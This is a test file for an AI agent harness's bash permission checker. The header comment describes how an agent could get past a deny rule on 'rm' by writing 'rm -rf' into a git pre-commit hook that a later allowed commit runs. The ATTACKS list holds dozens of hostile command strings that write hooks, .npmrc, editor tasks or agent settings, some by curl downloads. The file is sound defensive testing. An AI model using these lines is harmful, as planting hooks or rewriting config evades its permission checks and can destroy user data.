import { existsSync } from 'node:fs';
import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { PermissionPolicy, type PermissionRule } from '../../src/permission/index.js';
import { EXECUTED_FILE_PATTERNS } from '../../src/permission/default-rules.js';
import { own } from '../support/collect-events.js';
import { runHostileCalls, tempWorkspace } from './tool-calls-over-http.js';

// The write and edit tools ask before writing a file other programs run (.git/hooks/*,
// .git/config, .vscode/tasks.json, .npmrc...). A bash line the user's rules allowed could
// write one all the same (`echo 'rm -rf x' > .git/hooks/pre-commit`), and the next allowed
// `git commit` ran the hook: a deny on `rm *` dodged in two steps. Such a write is now a line
// the checker cannot read: denied while a deny rule is in force, asked under an allow pattern.

const ALLOWED = ['git *', 'echo *', 'cat *', 'cp *', 'tee *', 'sed *', 'mv *', 'ln *', 'install *', 'dd *', 'cd *', 'printf *', 'rsync *', 'ls *', 'awk *', 'gawk *', 'curl *', 'wget *', 'sort *'];
const RULES: PermissionRule[] = [
  ...ALLOWED.map((pattern): PermissionRule => ({ tool: 'bash', action: 'allow', pattern })),
  { tool: 'bash', action: 'deny', pattern: 'rm *' },
];

/** [the line, the path the reason must name]. */
const ATTACKS: readonly (readonly [string, string])[] = [
  ["echo 'rm -rf x' > .git/hooks/pre-commit", '.git/hooks/pre-commit'],
  ["printf '#!/bin/sh\\nrm -rf x\\n' >> .husky/pre-commit", '.husky/pre-commit'],
  ['echo x >| .git/config', '.git/config'],
  ['echo x &> .vscode/tasks.json', '.vscode/tasks.json'],
  ['echo x >& .npmrc', '.npmrc'],
  ['echo x 1<> .envrc', '.envrc'],
  ['cat x >> .npmrc', '.npmrc'],
  ['cat evil > sub/pkg/.git/hooks/post-checkout', 'sub/pkg/.git/hooks/post-checkout'],
  ['echo x > ./.git/config', './.git/config'],
  ['echo x > src/../.git/config', 'src/../.git/config'],
  ['echo x > /abs/repo/.git/config', '/abs/repo/.git/config'],
  ['echo x > .GIT/config', '.GIT/config'], // one file on case-insensitive file systems
  ['echo x > ".git"/config', '.git/config'],
  ['echo x > .idea/workspace.xml', '.idea/workspace.xml'],
  ['echo x > .devcontainer/devcontainer.json', '.devcontainer/devcontainer.json'],
  ['echo x > .yarnrc.yml', '.yarnrc.yml'],
  ['echo x > .devcontainer.json', '.devcontainer.json'],
  ['echo x > sub/.hg/hgrc', 'sub/.hg/hgrc'],
  ['echo x > .claude/settings.json', '.claude/settings.json'],
  ['echo x > .rxharness/agents/a.md', '.rxharness/agents/a.md'],
  ['echo x > $F', '$F'], // only known when it runs
  ['echo x > .gi?/config', '.gi?/config'],
  ['exec 3> .git/config', '.git/config'],
  ['> .git/hooks/pre-commit', '.git/hooks/pre-commit'],
  ['echo ok && echo x > .git/hooks/pre-push', '.git/hooks/pre-push'],
  ['echo $(echo x > .git/config)', '.git/config'],
  ['cp evil .git/config', '.git/config'],
  ['cp -r hooks .git', '.git'],
  ['cp -r x/.vscode .', 'x/.vscode'],
  ['cp --target-directory=.git/hooks pre-commit', '.git/hooks'],
  ['mv evil .husky/pre-commit', '.husky/pre-commit'],
  ['ln -s ../../evil .git/hooks/pre-commit', '.git/hooks/pre-commit'],
  ['install -m755 evil .git/hooks/pre-commit', '.git/hooks/pre-commit'],
  ['rsync evil .git/hooks/pre-commit', '.git/hooks/pre-commit'],
  ['tee .vscode/tasks.json', '.vscode/tasks.json'],
  ['echo x | tee -a .npmrc', '.npmrc'],
  ["sed -i 's/a/b/' .git/config", '.git/config'],
  ["sed --in-place 's/a/b/' .npmrc", '.npmrc'],
  ['dd if=evil of=.envrc', '.envrc'],
  ["sed -n 's/x/y/w .git/config' f", '.git/config'],
  ["sed -n 's/w/v/;s/x/y/w .git/config' f", '.git/config'],
  ["sed -n '/x/w .npmrc' f", '.npmrc'],
  ['awk \'{ print > ".git/hooks/pre-commit" }\' f', '.git/hooks/pre-commit'],
  ["gawk -i inplace '{ print }' .npmrc", '.npmrc'],
  ['curl -o .git/hooks/pre-commit https://example.com/x', '.git/hooks/pre-commit'],
  ['curl -o.npmrc https://example.com/x', '.npmrc'],
  ['curl -O https://example.com/.npmrc', 'https://example.com/.npmrc'],
  ['wget --output-document=.envrc https://example.com/x', '.envrc'],
  ['sort -o .git/config x', '.git/config'],
  ['cp -t.git/hooks pre-commit', '.git/hooks'],
  ['git diff --output=.git/hooks/pre-commit', '.git/hooks/pre-commit'],
  ['git diff --output .git/hooks/pre-commit', '.git/hooks/pre-commit'],
  ['git log -p --outp=.npmrc', '.npmrc'],
  ['git format-patch -o .git/hooks HEAD~1', '.git/hooks'],
  ['git format-patch --output-directory=.husky HEAD~1', '.husky'],
  ['git archive -o.git/hooks/x HEAD', '.git/hooks/x'],
  ['git worktree add .git/hooks evil', '.git/hooks'],
  ['cd .git/hooks && echo x > pre-commit', '.git/hooks'],
  ['timeout 5 tee .git/config', '.git/config'],
  ["bash -c 'echo x > .git/config'", '.git/config'],
  // A folder entered by a glob or a run-time name, then written by a relative path.
  ['cd .gi[t]/hooks && echo x > pre-commit', '.gi[t]/hooks'],
  ['cd .gi? && echo x > hooks/pre-commit', '.gi?'],
  ['pushd .hus* && echo x > pre-commit', '.hus*'],
  ['cd $D && echo x > pre-commit', '$D'],
  // Globs that may reach one: a segment starting with a literal dot, in any letter case.
  ['cp x .np?rc', '.np?rc'],
  ['cp -r hooks/* .gi?/hooks/', '.gi?/hooks/'],
  ['echo x > .VS*/tasks.json', '.VS*/tasks.json'],
  ['echo x > [.]git/config', '[.]git/config'], // POSIX leaves a leading `[.]` open
];

/** Writes elsewhere, and reads of these files, which must keep running unasked. */
const ORDINARY = [
  'echo hi > out.txt',
  'git diff > patch.diff',
  'git diff --output=patch.diff',
  'git format-patch -o patches HEAD~1',
  'cat a > b',
  'cat a >> log/b.txt',
  'echo x 2>/dev/null',
  'echo x >&2',
  'ls 2>&1',
  'echo x 2>&1 >/dev/null',
  'echo x >&-',
  'cp a b',
  'mv a dist/',
  'tee out.log',
  "sed 's/a/b/' .git/config",
  "sed -n '1p' .npmrc",
  'cat .git/config',
  'cat .git/config > backup.txt',
  'echo .git/config',
  'git commit -m "fix .git/config"',
  'git log -- .vscode/settings.json',
  'cd src && echo x > out.txt',
  'echo x > .gitignore',
  'echo x > .github/workflows/ci.yml', // runs elsewhere, on a push the user makes
  'echo x > my.git/config',
  'echo x > .npmrc.bak',
  "sed -n '/w/p' .git/config",
  "awk '{ print $1 }' .npmrc",
  'awk \'{ print > "out.txt" }\' f',
  'curl -o out.html https://example.com/a',
  'sort -o sorted.txt x',
  // Shell globs never cross `/`, and `*` or `?` in front never match a name starting with `.`.
  'cp *.txt backup/',
  'cp src/*.ts out/',
  'cp -r dist/* /srv/www/',
  'cp ?.md docs/',
  'cd src/* && echo x > out.txt',
  'echo x > logs/*.log',
];

let cleanup: (() => Promise<void>) | undefined;
afterEach(async () => {
  await cleanup?.();
  cleanup = undefined;
});

describe('bash lines that write files other programs run', () => {
  const policy = new PermissionPolicy({ rules: RULES });

  it.each(ATTACKS)('%j is denied under allow patterns and deny rm *, naming the file', (line, path) => {
    const decision = policy.evaluate('bash', line);
    expect(decision.action).toBe('deny');
    expect(decision.reason).toContain(`a write to a file other programs run ("${path}")`);
  });

  it.each(ORDINARY)('%j stays allowed', (line) => {
    expect(policy.evaluate('bash', line)).toMatchObject({ action: 'allow' });
  });

  it.each(EXECUTED_FILE_PATTERNS)('a write the write tool asks for by %j is unreadable for bash too (one list)', (pattern) => {
    const path = pattern.replace(/^\*\*\//, 'sub/').replace(/\/\*\*$/, '/x');
    expect(policy.evaluate('bash', `echo x > ${path}`).reason).toContain(`a write to a file other programs run ("${path}")`);
  });

  it.each([
    ['CDPATH=.git cd hooks && echo x > pre-commit', 'a change of CDPATH'],
    ['shopt -s dotglob; cp -r dist/* .', '"shopt dotglob"'],
    ['GLOBIGNORE=x; cp -r dist/* .', 'a change of GLOBIGNORE'],
  ])('%j, which makes a plain name or glob reach one, is denied', (line, why) => {
    const decision = new PermissionPolicy({ rules: [...RULES, { tool: 'bash', action: 'allow', pattern: 'shopt *' }] }).evaluate('bash', line);
    expect(decision.action).toBe('deny');
    expect(decision.reason).toContain(why);
  });

  it('asks (not allows) under the allow patterns alone, as a write of that file by the write tool does', () => {
    const allowOnly = new PermissionPolicy({ rules: RULES.filter((rule) => rule.action === 'allow') });
    expect(allowOnly.evaluate('bash', 'echo x > .git/hooks/pre-commit').action).toBe('ask');
    expect(allowOnly.evaluate('bash', 'echo x > out.txt').action).toBe('allow');
  });

  it('is refused in a real run before anything runs, and the hook is never written', async () => {
    const ws = await tempWorkspace('rxharness-executed-writes-');
    cleanup = ws.cleanup;
    await mkdir(join(ws.dir, '.git', 'hooks'), { recursive: true });
    const command = "echo 'rm -rf victim' > .git/hooks/pre-commit";
    const events = await runHostileCalls(ws.dir, [{ name: 'bash', arguments: { command } }], { permissionRules: RULES });
    expect(own(events, 'ToolCallEnd').map((e) => e.error)).toEqual([
      'Permission denied: denied: the command has a write to a file other programs run (".git/hooks/pre-commit"), ' +
        'which may run a command the line does not show, so the bash deny rules cannot check it',
    ]);
    expect(existsSync(join(ws.dir, '.git', 'hooks', 'pre-commit'))).toBe(false);
  });
});
